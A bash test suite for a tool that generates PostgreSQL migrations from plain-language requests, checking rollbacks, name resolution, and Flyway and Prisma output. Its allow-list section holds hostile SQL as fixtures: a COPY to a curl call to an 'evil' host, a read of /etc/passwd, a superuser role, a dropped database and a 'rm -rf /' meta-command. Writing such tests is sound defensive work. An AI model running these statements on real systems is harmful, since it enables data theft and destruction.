#!/usr/bin/env bash
# nl2mig: the builtin grammar on a real PostgreSQL (demo shop database):
# for every phrasing in tests/fixtures/nl2mig/phrasings.tsv the forward SQL
# applies, the catalog changes, the computed rollback applies and the
# catalog is then identical to before (compared by tests/dagcmp, not
# assumed). Destructive requests are refused without --allow-destructive;
# irreversible ones say why. Then the allow-list, name resolution, --sql
# with a given rollback, and --write for Flyway and Prisma.
. "$(dirname "$0")/lib.sh"
set -u
unset ANTHROPIC_API_KEY OPENAI_API_KEY
export SOURCE_DATE_EPOCH=1764000000
fx=$MIGSAFE_ROOT/tests/fixtures/nl2mig
work=$(mktemp -d)
on_exit rm -rf "$work"
pg_start
url=$("$MIGSAFE_ROOT/scripts/pg-tmp" createdb "$PGURL" nl2mig)
# the demo's NULL phones filled, so that SET NOT NULL can succeed
load_demo() {
	psql -X -q -v ON_ERROR_STOP=1 -v scale=0.1 "$url" -f "$MIGSAFE_ROOT/scripts/demo-db.sql" >/dev/null &&
		psql -X -q "$url" -c "UPDATE customers SET phone = '' WHERE phone IS NULL" >/dev/null
}
load_demo 2>"$work/err" ||
	bail_out "demo database: $(head -3 "$work/err")"
"$BIN/schema2dag" --db "$url" >"$work/dag.ndjson" 2>/dev/null || bail_out "schema2dag --db failed"

psql_file() { psql -X -q -v ON_ERROR_STOP=1 "$url" -f "$1" >/dev/null 2>"$work/psql.err"; }

# roundtrip FLAG REQUEST: forward, change, rollback, identical.
roundtrip() {
	local flag=$1 req=$2 extra=() st=0
	# a dropped column comes back empty: refill it for the requests after
	psql -X -q "$url" -c "UPDATE customers SET phone = '' WHERE phone IS NULL" >/dev/null
	[ "$flag" = destructive ] && extra=(--allow-destructive)
	if [ "$flag" = destructive ]; then
		"$BIN/nl2mig" --no-lint "$req" <"$work/dag.ndjson" >"$work/refused" 2>/dev/null || st=$?
		[ "$st" = 1 ] && [ ! -s "$work/refused" ] || { ok 1 "$req: refused without --allow-destructive (rc $st)"; return; }
	fi
	st=0
	"$BIN/nl2mig" --no-lint "${extra[@]}" "$req" <"$work/dag.ndjson" >"$work/out" 2>"$work/nl.err" || st=$?
	[ "$st" = 0 ] || { diag "$(cat "$work/nl.err")"; ok 1 "$req: nl2mig exits 0"; return; }
	record_out "$work/out"
	tail -1 "$work/out" | jq -r .forward >"$work/fwd.sql"
	tail -1 "$work/out" | jq -r .rollback >"$work/rb.sql"
	local nirr
	nirr=$(tail -1 "$work/out" | jq '.irreversible | length')
	psql_file "$work/fwd.sql" || { diag "$(cat "$work/fwd.sql")" "$(head -3 "$work/psql.err")"; ok 1 "$req: forward applies"; return; }
	"$BIN/schema2dag" --db "$url" >"$work/mid.ndjson" 2>/dev/null
	if "$MIGSAFE_ROOT/tests/dagcmp" "$work/dag.ndjson" "$work/mid.ndjson" >/dev/null; then
		ok 1 "$req: the forward SQL changes the catalog"
		return
	fi
	psql_file "$work/rb.sql" || { diag "$(cat "$work/rb.sql")" "$(head -3 "$work/psql.err")"; ok 1 "$req: rollback applies"; return; }
	"$BIN/schema2dag" --db "$url" >"$work/after.ndjson" 2>/dev/null
	"$MIGSAFE_ROOT/tests/dagcmp" "$work/dag.ndjson" "$work/after.ndjson" >"$work/diff" && st=0 || st=1
	if [ "$flag" = irreversible ]; then
		# the only difference left must be the enum, and a reason given
		local other
		other=$(grep '^[-+][a-z]' "$work/diff" | grep -vc '^[-+]enum ' || true)
		[ "$nirr" -gt 0 ] && [ "$other" = 0 ] && ok 0 "$req: applies, rolls back but for the enum value, says why" ||
			{ diag "$(cat "$work/diff")"; ok 1 "$req: irreversible as stated"; }
		# restore the enum for the next requests: recreate the database
		"$MIGSAFE_ROOT/scripts/pg-tmp" dropdb "$PGURL" nl2mig >/dev/null 2>&1 ||
			psql -X -q "$PGURL" -c 'DROP DATABASE nl2mig' >/dev/null
		url=$("$MIGSAFE_ROOT/scripts/pg-tmp" createdb "$PGURL" nl2mig)
		load_demo
		return
	fi
	[ "$st" = 0 ] || diag "$(head -20 "$work/diff")"
	ok "$st" "$req: forward applies, changes the catalog; rollback restores it exactly${nirr:+ ($nirr irreversible)}"
}

n=0
while IFS=$'\t' read -r flag req; do
	[ -n "$req" ] || continue
	n=$((n + 1))
	roundtrip "$flag" "$req"
done <"$fx/phrasings.tsv"
[ "$n" -ge 40 ] && ok 0 "at least 40 phrasings ($n)" || ok 1 "at least 40 phrasings ($n)"

# run CMD...: rc in $rc, stdout in $work/o, stderr in $work/e
run() { rc=0; "$@" >"$work/o" 2>"$work/e" || rc=$?; }

# --- names: ambiguous and unknown are refused with candidates ---
cat >"$work/two.sql" <<'SQL'
CREATE SCHEMA audit;
CREATE TABLE public.events (id bigint PRIMARY KEY);
CREATE TABLE audit.events (id bigint PRIMARY KEY);
CREATE TABLE order_items (id bigint PRIMARY KEY);
SQL
"$BIN/schema2dag" --sql "$work/two.sql" >"$work/two.ndjson"
run "$BIN/nl2mig" "add column note text to events" <"$work/two.ndjson"
[ "$rc" = 4 ] && grep -q "ambiguous.*audit.events.*public.events\|ambiguous.*public.events.*audit.events" "$work/e" && [ ! -s "$work/o" ]
ok $? "an ambiguous table is refused with its candidates"
run "$BIN/nl2mig" "add column note text to audit.events" <"$work/two.ndjson"
[ "$rc" = 0 ] && grep -q 'ALTER TABLE audit.events ADD COLUMN note text' "$work/o"
ok $? "a schema-qualified name resolves, and its schema may be touched"
run "$BIN/nl2mig" "add column note text to ordr_itms" <"$work/two.ndjson"
[ "$rc" = 4 ] && grep -q "no table 'ordr_itms'; candidates:" "$work/e"
ok $? "an unknown table is refused with candidates"
run "$BIN/nl2mig" "add column note text to OrderItem" <"$work/two.ndjson"
[ "$rc" = 0 ] && grep -q 'ALTER TABLE order_items ADD COLUMN note' "$work/o"
ok $? "a Prisma model name (OrderItem) resolves to its table (order_items)"
run "$BIN/nl2mig" "add column phone text to customers" <"$work/dag.ndjson"
[ "$rc" = 4 ] && grep -q "already has a column 'phone'" "$work/e"
ok $? "adding a column that exists is refused"
run "$BIN/nl2mig" "please make everything faster" <"$work/dag.ndjson"
[ "$rc" = 4 ] && grep -q "not understood" "$work/e" && [ ! -s "$work/o" ]
ok $? "a request the grammar does not understand is refused, nothing on stdout"

# --- the allow-list, on hand-written SQL: a person's file is reviewed, never
# refused; what model output would be refused for is a note lockscore reports
# (model output is refused: nl2mig-llm.t) ---
forbidden=(
	"DROP DATABASE nl2mig;"
	"COPY orders TO PROGRAM 'curl http://evil';"
	"GRANT ALL ON orders TO PUBLIC;"
	"CREATE ROLE intruder SUPERUSER;"
	"ALTER SYSTEM SET fsync = off;"
	"SET ROLE postgres;"
	"ALTER TABLE orders ADD COLUMN x text DEFAULT pg_read_file('/etc/passwd');"
	"SELECT pg_terminate_backend(42);"
)
for sql in "${forbidden[@]}"; do
	printf 'SET lock_timeout = %s;\n%s\n' "'5s'" "$sql" >"$work/bad.sql"
	run "$BIN/nl2mig" --no-lint --sql "$work/bad.sql" <"$work/dag.ndjson"
	record_out "$work/o"
	# SET ROLE: lockscore's own rule (session-role-change) reports it, not a note
	notes='[2]' rule=outside-allow-list
	case $sql in "SET ROLE"*) notes='[]' rule=session-role-change ;; esac
	[ "$rc" = 0 ] && [ "$(tail -1 "$work/o" | jq -c '[.outside_allow_list[] | .line]')" = "$notes" ] &&
		[ "$(tail -1 "$work/o" | jq -r .forward)" = "$(cat "$work/bad.sql")" ] &&
		{ "$BIN/lockscore" <"$work/o" >"$work/ls" 2>"$work/ls.err" || true; } &&
		jq -se --arg r "$rule" 'any(.[]; .kind == "finding" and .rule == $r and .line == 2)' "$work/ls" >/dev/null
	st=$?
	ok $st "reviewed (exit 0), the statement a model may not write noted at line 2 and reported by lockscore: $sql"
	[ $st = 0 ] || diag "nl2mig exit $rc: $(head -3 "$work/e")" "lockscore: $(head -3 "$work/ls.err")"
done
printf 'SET lock_timeout = %s;\n\\! rm -rf /\nALTER TABLE orders ADD COLUMN x text;\n' "'5s'" >"$work/bad.sql"
run "$BIN/nl2mig" --sql "$work/bad.sql" <"$work/dag.ndjson"
record_out "$work/o"
[ "$rc" = 0 ] && [ "$(tail -1 "$work/o" | jq -c '[.outside_allow_list[] | [.line, .severity, .type]]')" = '[[2,"high","psql meta-command"]]' ] &&
	{ "$BIN/lockscore" <"$work/o" >"$work/ls" 2>"$work/ls.err" || true; } &&
	jq -se 'any(.[]; .kind == "finding" and .rule == "outside-allow-list" and .line == 2 and .severity == "high")' "$work/ls" >/dev/null &&
	jq -se 'any(.[]; .kind == "risk" and .level == "high")' "$work/ls" >/dev/null
ok $? "a person's file with a psql meta-command line (\\!): reviewed, a high finding at its line, risk high"
printf -- "-- DROP TABLE orders;\nALTER TABLE orders ADD COLUMN note text; /* DROP DATABASE x; */\nCOMMENT ON COLUMN orders.note IS 'DROP TABLE orders';\n" >"$work/c.sql"
run "$BIN/nl2mig" --sql "$work/c.sql" <"$work/dag.ndjson"
[ "$rc" = 0 ] && [ "$(tail -1 "$work/o" | jq .destructive)" = false ] &&
	[ "$(tail -1 "$work/o" | jq -r .rollback)" = 'ALTER TABLE orders DROP COLUMN note;' ]
ok $? "statements in comments and strings are not statements: accepted, not destructive"
printf 'ALTER TABLE orders ADD COLUMN note text;\nALTER TABLE orders ALTER COLUMN note SET NOT NULL;\n' >"$work/f.sql"
run "$BIN/nl2mig" --sql "$work/f.sql" <"$work/dag.ndjson"
[ "$rc" = 0 ] && [ "$(tail -1 "$work/o" | jq -r .rollback)" = $'ALTER TABLE orders ALTER COLUMN note DROP NOT NULL;\nALTER TABLE orders DROP COLUMN note;' ]
ok $? "--sql: the rollback is the inverse of each statement in reverse order"
printf "SET lock_timeout = '5s';\nALTER TABLE orders ADD COLUMN note text;\nCREATE INDEX CONCURRENTLY orders_note ON orders (note);\nALTER TABLE orders ALTER COLUMN note SET NOT NULL;\n" >"$work/of.sql"
run "$BIN/nl2mig" --no-lint --sql "$work/of.sql" <"$work/dag.ndjson"
is "$rc:$(tail -1 "$work/o" | jq -c .rollback_of)" "0:[-1,3,2,1]" \
	"rollback_of: each rollback statement names the forward statement it undoes (-1: the lock_timeout setting)"
printf 'ALTER TABLE orders DROP COLUMN note;\n' >"$work/r-good.sql"
run "$BIN/nl2mig" --sql "$work/f.sql" --rollback "$work/r-good.sql" <"$work/dag.ndjson"
[ "$rc" = 0 ] && [ "$(tail -1 "$work/o" | jq -c .rollback_of)" = null ]
ok $? "--rollback: a given rollback that undoes the forward is accepted (its statements map onto nothing: rollback_of null)"
printf 'ALTER TABLE orders ALTER COLUMN note DROP NOT NULL;\n' >"$work/r-bad.sql"
run "$BIN/nl2mig" --sql "$work/f.sql" --rollback "$work/r-bad.sql" <"$work/dag.ndjson"
[ "$rc" = 1 ] && grep -q "does not undo" "$work/e" && [ ! -s "$work/o" ]
ok $? "--rollback: a rollback that leaves the column behind is refused"
printf 'ALTER TABLE orders ADD COLUMN (note text;\n' >"$work/syn.sql"
run "$BIN/nl2mig" --sql "$work/syn.sql" <"$work/dag.ndjson"
[ "$rc" = 4 ] && grep -q "syn.sql:1:" "$work/e"
ok $? "SQL that does not parse: exit 4 with file and line"
printf 'UPDATE orders SET total_cents = 0;\n' >"$work/u.sql"
run "$BIN/nl2mig" --no-lint --sql "$work/u.sql" <"$work/dag.ndjson"
[ "$rc" = 0 ] && [ "$(tail -1 "$work/o" | jq -c '[.destructive, (.irreversible | map(test("UPDATE overwrites")) | any)]')" = "[true,true]" ]
ok $? "an UPDATE of existing data in a person's file: reviewed, destructive and irreversible said"
printf 'ALTER TABLE audit.events ADD COLUMN x int;\n' >"$work/other-schema.sql"
run "$BIN/nl2mig" --no-lint --sql "$work/other-schema.sql" <"$work/dag.ndjson"
[ "$rc" = 0 ] && [ "$(tail -1 "$work/o" | jq -c .outside_allow_list)" = "[]" ]
ok $? "a person's file names any schema it likes: there is no request to keep to"

# --- lockscore on the builtin's output: no medium findings for safe forms ---
for req in "add index on orders (status)" "make customers.phone not null" "add a foreign key from order_items.product_id to products" "add timestamps to products"; do
	run "$BIN/nl2mig" "$req" <"$work/dag.ndjson"
	[ "$rc" = 0 ] && [ "$(tail -1 "$work/o" | jq '.findings | length')" = 0 ]
	ok $? "lockscore finds nothing of medium or more: $req"
done

# --- --write: Flyway, on the corpus's Flyway folders ---
for proj in dspace ohdsi-webapi; do
	# the corpus is read-only: the copy must not be, as a project's folder is not
	rm -rf "$work/fw" && mkdir -p "$work/fw" && cp -r "$CORPUS/flyway/$proj" "$work/fw/p" && chmod -R u+w "$work/fw/p"
	# WebAPI's scripts name their schema by a placeholder, as its Flyway config does
	[ "$proj" = ohdsi-webapi ] && echo "flyway.placeholders.ohdsiSchema=webapi" >"$work/fw/p/flyway.conf"
	run "$BIN/nl2mig" --write "$work/fw/p" "add index on orders (status)" <"$work/dag.ndjson"
	fwd=$(tail -1 "$work/o" | jq -r .files.forward)
	rb=$(tail -1 "$work/o" | jq -r .files.rollback)
	[ "$rc" = 0 ] && [[ $(basename "$fwd") =~ ^V[0-9.]+__[a-z0-9_]+\.sql$ ]] && [ -f "$fwd" ] &&
		[ "$rb" = "$work/fw/p/migrations/rollbacks/U20251124160000__add_index_on_orders_status.sql" ] && [ -f "$rb" ]
	ok $? "flyway $proj: V<version>__<slug>.sql in the location, U<version> in migrations/rollbacks"
	"$BIN/schema2dag" --flyway "$work/fw/p" >"$work/fw.ndjson" 2>"$work/fw.err"
	[ "$(jq -r 'select(.kind == "source") | .latest_version' "$work/fw.ndjson")" = 20251124160000 ]
	ok $? "flyway $proj: Flyway's own ordering takes the new file as the latest version, no collision"
	latest=$(jq -r 'select(.kind == "source") | .latest_version' "$work/fw.ndjson")
	run "$BIN/nl2mig" --write "$work/fw/p" --version "$latest" "add soft delete to orders" <"$work/dag.ndjson"
	[ "$rc" = 4 ] && grep -q "not after the latest" "$work/e" && [ ! -s "$work/o" ]
	ok $? "flyway $proj: --version equal to the latest (a collision) is refused"
	SOURCE_DATE_EPOCH=1000000000 run "$BIN/nl2mig" --write "$work/fw/p" "add soft delete to orders" <"$work/dag.ndjson"
	v=$(tail -1 "$work/o" | jq -r .id)
	[ "$rc" = 0 ] && [ "$v" = "V20251124160000.1__add_soft_delete_to_orders" ] &&
		"$BIN/schema2dag" --flyway "$work/fw/p" >/dev/null 2>&1
	ok $? "flyway $proj: a clock behind the latest version still gives the next version ($v)"
done
rm -rf "$work/fw" && mkdir -p "$work/fw/db/sql"
printf '[flyway]\nlocations = ["filesystem:db/sql"]\n' >"$work/fw/flyway.toml"
printf 'CREATE TABLE t (id int);\n' >"$work/fw/db/sql/V1__init.sql"
run "$BIN/nl2mig" --write "$work/fw" "add unique column code text to orders" <"$work/dag.ndjson"
[ "$rc" = 0 ] && [ -f "$work/fw/db/sql/V20251124160000__add_column_code_to_orders.sql" ] &&
	[ -f "$work/fw/db/sql/V20251124160000.1__add_column_code_to_orders.sql" ] &&
	grep -q CONCURRENTLY "$work/fw/db/sql/V20251124160000.1__add_column_code_to_orders.sql" &&
	! grep -q CONCURRENTLY "$work/fw/db/sql/V20251124160000__add_column_code_to_orders.sql"
ok $? "flyway.toml locations: files go there; CREATE INDEX CONCURRENTLY gets a version of its own"

# --- --write: Prisma ---
mkdir -p "$work/pr/prisma/migrations/20990101000000_future"
printf 'datasource db {\n  provider = "postgresql"\n  url = env("DATABASE_URL")\n}\n' >"$work/pr/prisma/schema.prisma"
run "$BIN/nl2mig" --write "$work/pr" "add soft delete to orders" <"$work/dag.ndjson"
d=$(dirname "$(tail -1 "$work/o" | jq -r .files.forward)")
[ "$rc" = 0 ] && [ "$(basename "$d")" = 20990101000001_add_soft_delete_to_orders ] && [ -f "$d/migration.sql" ] && [ -f "$d/down.sql" ]
ok $? "prisma: <timestamp>_<slug>/migration.sql and down.sql, after the latest folder"
run "$BIN/nl2mig" --write "$work/pr" --version 20990101000001 "add timestamps to products" <"$work/dag.ndjson"
[ "$rc" = 4 ] && [ ! -s "$work/o" ]
ok $? "prisma: a folder timestamp not after the latest is refused"
done_testing
